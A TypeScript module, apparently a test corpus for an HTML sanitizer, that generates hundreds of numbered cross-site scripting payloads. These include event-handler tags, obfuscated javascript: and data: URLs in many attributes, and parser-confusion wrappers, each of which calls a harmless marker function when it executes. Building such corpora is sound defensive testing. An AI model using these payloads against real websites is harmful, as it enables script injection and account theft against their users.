/** Attempts to run a script from inside written content, each with its own number. */

type Vector = (script: string) => string;

const ELEMENTS = [
  'img src=x',
  'image src=x',
  'img srcset=x',
  'svg',
  'body',
  'iframe src=about:blank',
  'audio src=x',
  'video src=x',
  'video><source src=x',
  'input autofocus',
  'input type=image src=x',
  'select autofocus',
  'textarea autofocus',
  'button autofocus',
  'a tabindex=0 autofocus href=#',
  'details open',
  'marquee',
  'object data=about:blank',
  'embed src=about:blank',
  'style',
  'link rel=stylesheet href=x',
  'math',
  'form',
  'p tabindex=0',
  'x-fair tabindex=0 autofocus',
];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onclick', 'onstart', 'onpointerover'];

/** What stands between the parts of a tag; browsers take all of these. */
const GAPS = [' ', '/', '\n', '\t', '\f', ' x=">" '];
const QUOTES = ['"', "'", ''];

const tags: Vector[] = ELEMENTS.flatMap((element) =>
  EVENTS.flatMap((event): Vector[] => [
    (script) => `<${element} ${event}="${script}">`,
    (script) => `<${mixed(element)} ${mixed(event)}=${script}>`,
  ]),
);
const spacings: Vector[] = GAPS.flatMap((gap) =>
  QUOTES.flatMap((quote) =>
    ['img src=x', 'svg', 'details open', 'input autofocus'].flatMap((element): Vector[] => {
      const [name = '', ...attributes] = element.split(' ');
      const head = `<${[name, ...attributes].join(gap)}${gap}`;
      return EVENTS.slice(0, 4).map((event) => (script) => `${head}${event}=${quote}${script}${quote}>`);
    }),
  ),
);

const SCHEMES: Vector[] = [
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `\u0001javascript:${script}`,
  (script) => ` \n javascript:${script}`,
  (script) => `java\tscript:${script}`,
  (script) => `java\nscript:${script}`,
  (script) => `java&Tab;script:${script}`,
  (script) => `&#106;avascript:${script}`,
  (script) => `&#x6A&#x61vascript:${script}`,
  (script) => `javascript&colon;${script}`,
  (script) => `javascript://%0a${script}`,
  (script) => `javascript:/*https://*/${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}`,
  (script) => `vbscript:${script}`,
  (script) => `feed:javascript:${script}`,
];
const HOLDERS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<A HREF='${address}' target=_self>x</A>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"/></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}"/></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<iframe srcdoc='<script src="${address}"></script>'></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button form=f formaction="${address}">x</button>`,
  (address) => `<img src="${address}">`,
  (address) => `<img src=x lowsrc="${address}" dynsrc="${address}">`,
  (address) => `<video poster="${address}"></video>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `<table background="${address}"><td>x</table>`,
  (address) => `<p style="background:url('${address}')">x</p>`,
  (address) => `<map name=m><area href="${address}" shape=default></map>`,
];
const addresses: Vector[] = HOLDERS.flatMap((hold) =>
  SCHEMES.map(
    (scheme): Vector =>
      (script) =>
        hold(scheme(script).replace(/"/g, '&quot;')),
  ),
);

/** Places where one parser sees text and another sees a tag. */
const DISGUISES: ((inside: string) => string)[] = [
  (inside) => `<svg>${inside}</svg>`,
  (inside) => `<math>${inside}</math>`,
  (inside) => `<svg><style>${inside}</style></svg>`,
  (inside) => `<svg><p><style><g title="</style>${inside}">`,
  (inside) => `<math><mtext><table><mglyph><style><!--</style>${inside}`,
  (inside) => `<form><math><mtext></form><form><mglyph><style></math>${inside}`,
  (inside) => `<noscript><p title="</noscript>${inside}">`,
  (inside) => `<style><img title="</style>${inside}">`,
  (inside) => `<textarea><p title="</textarea>${inside}">`,
  (inside) => `<title><p title="</title>${inside}">`,
  (inside) => `<xmp><p title="</xmp>${inside}">`,
  (inside) => `<iframe><p title="</iframe>${inside}">`,
  (inside) => `<noembed><p title="</noembed>${inside}">`,
  (inside) => `<template><div>${inside}</div></template>${inside}`,
  (inside) => `<select><option>${inside}</option></select>`,
  (inside) => `<!--><p>-->${inside}`,
  (inside) => `<!--!>${inside}-->`,
  (inside) => `<![CDATA[>${inside}]]>`,
  (inside) => `<?x ?>${inside}`,
  (inside) => `</p/ >${inside}`,
  (inside) => `<p title='"'>${inside}`,
  (inside) => `"'>${inside}`,
  (inside) => `<a href="/m/help" title="x">${inside}</a>`,
  (inside) => `<img alt="${inside.replace(/"/g, "'")}">${inside}`,
  (inside) => `<<${inside.slice(1)}`,
  (inside) => `<p>${inside}</p>`,
  (inside) => `</script>${inside}`,
  (inside) => `<ul><li><strong>${inside}</strong></li></ul>`,
  (inside) => `<table><tr><td>${inside}</table>`,
  (inside) => `<b x="<b x="${inside}">`,
];
const CORES: Vector[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<SCRIPT/x>${script}</SCRIPT >`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `<script src="data:,${script}"></script>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><script href="data:,${script}"/></svg>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<img/src=x/onerror=${script}//`,
  (script) => `<svg/onload=${script}>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<svg><set onbegin=${script} attributeName=x>`,
  (script) => `<svg><image href=x onerror=${script}>`,
  (script) => `<video><source onerror=${script}></video>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe onload=${script}></iframe>`,
  (script) => `<details open ontoggle=${script}>x</details>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${script}>x</p>`,
  (script) => `<body onload=${script}>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<img src=x onerror=&#${script.charCodeAt(0)};${script.slice(1)}>`,
  (script) => `&lt;img src=x onerror=${script}&gt;`,
  (script) => `<p onclick=${script} onmouseover=${script}>x</p>`,
  (script) => `{{constructor.constructor('${script}')()}}<img src onerror=${script}>`,
];
const disguised: Vector[] = DISGUISES.flatMap((disguise) =>
  CORES.map(
    (core): Vector =>
      (script) =>
        disguise(core(script)),
  ),
);
const wrappedTags: Vector[] = DISGUISES.filter((_, index) => index % 4 === 0).flatMap((disguise) =>
  tags
    .filter((_, index) => index % 2 === 0)
    .map(
      (tag): Vector =>
        (script) =>
          disguise(tag(script)),
    ),
);

const ALL: readonly Vector[] = [...CORES, ...tags, ...spacings, ...addresses, ...disguised, ...wrappedTags];

/** Ends whatever an attempt left open, so that the next one starts clean. */
const END = `-->"'></a></style></script></textarea></title></noscript></xmp></iframe></template></svg></math></select></table></form></details></object></video><hr>`;

/** All attempts; number n calls `top.hit(n)` when it gets through. */
export const VECTORS: readonly string[] = ALL.map((vector, index) => vector(`top.hit(${index})`) + END);

/** Attempts that are short enough for one line of plain text. */
export const SHORT_VECTORS: readonly string[] = CORES.map((core, index) => core(`top.hit(${index})`)).filter(
  (vector) => vector.length <= 120,
);

function mixed(text: string): string {
  return text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter));
}
